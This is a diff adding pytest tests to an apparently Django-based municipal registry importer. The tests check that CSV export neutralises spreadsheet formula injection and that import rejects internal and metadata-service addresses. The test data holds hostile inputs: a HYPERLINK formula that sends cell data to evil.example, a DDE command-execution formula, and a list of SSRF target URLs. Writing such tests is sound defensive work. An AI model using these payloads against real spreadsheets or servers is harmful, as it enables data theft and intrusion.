@@ -236,3 +236,85 @@ def test_import_enrols_into_edition(tmp_path):
     call_command("edition", "create", "--year", "2027")
     import_registry(write(tmp_path, [HEADER, *GOOD]), edition=Edition.objects.get(year=2027))
     assert Edition.objects.get(year=2027).participants.count() == 3
+
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?"&A2,"Kliknij")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "=cmd|' /C calc'!A0",
+]
+
+
+def test_csv_export_neutralises_formulas_json_keeps_them_and_reimport_is_exact(tmp_path, capsys):
+    rows = [
+        GOOD[0]
+        .replace("Gmina Żabia Wola", name.replace(";", ","))
+        .replace("5213017228", "")
+        .replace("www.zabiawola.pl", f"www.gmina{n}.pl")
+        for n, name in enumerate(HOSTILE_NAMES)
+    ]
+    first = import_registry(write(tmp_path, [HEADER, *rows]))
+    assert first.created == len(HOSTILE_NAMES), first.rejected
+    out = tmp_path / "eksport.csv"
+    call_command("participants", "export", "--format", "csv", "--output", str(out))
+    cells = [line.split(";")[0] for line in out.read_text(encoding="utf-8").splitlines()[1:]]
+    assert cells and all(c.lstrip('"')[:1] == "'" for c in cells), cells
+    call_command("participants", "export", "--format", "json")
+    names = {r["name"] for r in json.loads(capsys.readouterr().out)}
+    assert names == {n.replace(";", ",") for n in HOSTILE_NAMES}
+    again = import_registry(out)
+    assert (again.created, again.updated, again.unchanged, again.rejected) == (0, 0, 5, [])
+
+
+@pytest.mark.parametrize(
+    "website",
+    [
+        "http://127.0.0.1/",
+        "http://0177.0.0.1/",
+        "http://127.1/",
+        "http://2130706433/",
+        "http://0.0.0.0/",
+        "http://10.0.0.1/",
+        "http://192.168.1.1/",
+        "http://169.254.169.254/latest/meta-data/",
+        "http://metadata.google.internal/",
+        "http://127.0.0.1:22/",
+        "http://user:pass@127.0.0.1/",
+        "http://[::1]/",
+        "http://[fd00::1]/",
+        "http://[fe80::1]/",
+        "http://[::ffff:127.0.0.1]/",
+        "http://localhost/",
+        "http://intranet.local/",
+    ],
+)
+def test_private_and_internal_addresses_are_rejected_at_import(tmp_path, website):
+    row = GOOD[0].replace("www.zabiawola.pl", website)
+    report = import_registry(write(tmp_path, [HEADER, row]))
+    assert report.created == 0
+    assert [e.field for e in report.rejected] == ["website"], report.rejected
+    # The test world (AUDITOR_ALLOW_PRIVATE_NETWORKS) may register its loopback sites.
+    allowed = import_registry(write(tmp_path, [HEADER, row]), allow_test_domains=True)
+    if website.endswith((".internal/", ".local/")) or "localhost" in website:
+        return  # names pass only through the probe's guard, which resolves them
+    assert allowed.created == 1, allowed.rejected
+
+
+@pytest.mark.parametrize(
+    ("website", "stored"),
+    [
+        ("http://[2606:4700:4700::1111]/", "http://[2606:4700:4700::1111]/"),
+        (
+            "https://[2001:4860:4860:0:0:0:0:8888]:8443/bip",
+            "https://[2001:4860:4860::8888]:8443/bip",
+        ),
+        ("http://0177.0.0.1:18080/", "http://127.0.0.1:18080/"),
+    ],
+)
+def test_ip_literals_are_stored_as_a_browser_reads_them(tmp_path, website, stored):
+    row = GOOD[0].replace("www.zabiawola.pl", website)
+    report = import_registry(write(tmp_path, [HEADER, row]), allow_test_domains=True)
+    assert report.created == 1, report.rejected
+    assert Participant.objects.get().website == stored
